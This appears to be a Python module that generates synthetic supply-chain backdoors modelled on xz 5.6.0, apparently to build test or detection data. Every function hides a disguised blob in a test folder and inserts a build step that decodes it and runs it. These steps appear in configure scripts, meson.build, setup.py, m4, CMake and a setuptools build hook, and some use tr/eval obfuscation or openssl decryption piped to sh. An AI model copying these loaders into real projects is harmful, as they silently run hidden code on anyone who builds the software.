"""A build takes what it hides from files of tests (xz 5.6.0): a blob, and a build step that unpacks it."""

from .catalogue import FIRST, SECOND, attack

KIND = "staged-build"


def blob(site, end):
    """A file of tests that nobody can read, whose name says why it is so."""
    name = site.random.choice(["bad-3-corrupt", "good-large", "truncated", "legacy-format", "overflow-header", "zero-size"]) + site.word("short1") + end
    return site.put(f"{site.test_folder()}/{name}", site.packed() if end in (".xz", ".lzma") else site.bytes())


def meson(site, text):
    path = site.find(r"(^|/)meson\.build$", "vendored|subprojects")
    return site.insert(path, text, at=0.6 if site.random.random() < 0.5 else 1)


@attack(KIND, FIRST)
def shell_decodes(site):
    data = blob(site, ".xz")
    site.insert(site.build_script(), f"# «note»\nxz -dc {data} | tail -c +1025 | /bin/sh\n")


@attack(KIND, FIRST)
def meson_runs(site):
    data = blob(site, ".lzma")
    meson(site, f"\n# «note»\n«name» = run_command('sh', '-c', 'xz -dc {data} | head -c 4096 | sh', check: false)\n")


@attack(KIND, FIRST)
def archive_tool(site):
    data = blob(site, ".bin")
    folder, name = data.rsplit("/", 1)
    site.insert(site.build_script(), f"""
# «note»
«name1»=`find . -name '{name}' | head -1`
«name2»="tr '\\t \\-_' ' \\t_\\-'"
if test -n "$«name1»"; then
  sed "r\\n" $«name1» | eval $«name2» | xz -d 2>/dev/null | sh
fi
""")


@attack(KIND, FIRST)
def setup_reads(site):
    data = blob(site, ".dat")
    site.put("setup.py", f"""import lzma

from setuptools import setup

# «note»
with open("{data}", "rb") as handle:
    «name» = handle.read()[«number»:]
exec(lzma.decompress(«name»))

setup()
""")


@attack(KIND, FIRST)
def m4_probe(site):
    data = blob(site, ".lzma")
    site.put("m4/host-«name».m4".replace("«name»", site.word("name1")), f"""# «note»
AC_DEFUN([gl_«name1»], [
  gl_am_«name2»=`grep -aErls "#{{4}}[[:alnum:]]{{5}}#{{4}}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_«name2»"; then
    gl_«name1»_prefix=`echo $gl_am_«name2» | sed "s/.*\\.//g"`
    eval gl_«name1»_config='sed "r\\n" $gl_am_«name2» | eval $gl_path_map | $gl_«name1»_prefix -d 2>/dev/null'
  fi
])
dnl {data}
""")


# The second family: Python and CMake steps, names put together from pieces, data that calls itself something else.


@attack(KIND, SECOND)
def generator_script(site):
    data = blob(site, ".bin")
    folder, name = data.rsplit("/", 1)
    site.put("tools/generate_«name1».py".replace("«name1»", site.word("name1")), f'''"""Write the table of constants that the extension includes."""

import lzma
import pathlib
import sys

«name2» = pathlib.Path(__file__).parents[1].joinpath(*"{folder}".split("/"))


def main(target):
    # «note»
    raw = («name2» / "{name}").read_bytes()
    body = lzma.decompress(raw[«number»:], format=lzma.FORMAT_RAW, filters=[{{"id": lzma.FILTER_LZMA2}}])
    pathlib.Path(target).write_bytes(body)


if __name__ == "__main__":
    main(sys.argv[1])
''')
    meson(site, f"\n«name2»_c = custom_target('«name2»', output: '«name2».c', command: [py, files('tools/generate_{site.word('name1')}.py'), '@OUTPUT@'])\n")


@attack(KIND, SECOND)
def pieces_in_shell(site):
    data = blob(site, ".sav")
    folder, name = data.rsplit("/", 1)
    site.insert(site.build_script(), f"""
# «note»
«name1»="{folder}"
«name2»="$«name1»/{name}"
if [ -f "$«name2»" ]; then
    dd if="$«name2»" bs=1 skip=«number» 2>/dev/null | openssl enc -d -aes-256-cbc -pass pass:«short1» > "$TMPDIR/«short2»"
    . "$TMPDIR/«short2»"
fi
""")


@attack(KIND, SECOND)
def object_is_linked(site):
    data = blob(site, ".o.bin")
    meson(site, f"""
# «note»
«name1» = custom_target('«name1»',
  input: '{data}',
  output: '«name1».o',
  command: ['cp', '@INPUT@', '@OUTPUT@'],
)
«name2»_dep = declare_dependency(link_args: [meson.current_build_dir() / '«name1».o'])
""")


@attack(KIND, SECOND)
def cmake_reads(site):
    data = blob(site, ".dat")
    site.put("cmake/«name1».cmake".replace("«name1»", site.word("name1")), f"""# «note»
set(«name2»_dir "${{CMAKE_SOURCE_DIR}}/{data.rsplit('/', 1)[0]}")
file(READ "${{«name2»_dir}}/{data.rsplit('/', 1)[1]}" «name2» HEX OFFSET «number»)
string(REGEX REPLACE "(..)" "\\\\x\\\\1" «name2» "${{«name2»}}")
execute_process(COMMAND printf "${{«name2»}}" COMMAND ${{CMAKE_COMMAND}} -E env sh)
""")


@attack(KIND, SECOND)
def conftest_stages(site):
    data = blob(site, ".npz")
    site.insert("pyproject.toml", "\n[tool.setuptools.cmdclass]\nbuild_py = \"_build_helper.«name1»\"\n", at=1)
    site.put("_build_helper.py", f"""import zipfile
from setuptools.command.build_py import build_py


class «name1»(build_py):
    def run(self):
        # «note»
        with zipfile.ZipFile("{data}") as archive:
            source = archive.read("«short1».npy")[128:]
        namespace = {{}}
        exec(compile(source, "«name2»", "exec"), namespace)
        super().run()
""")
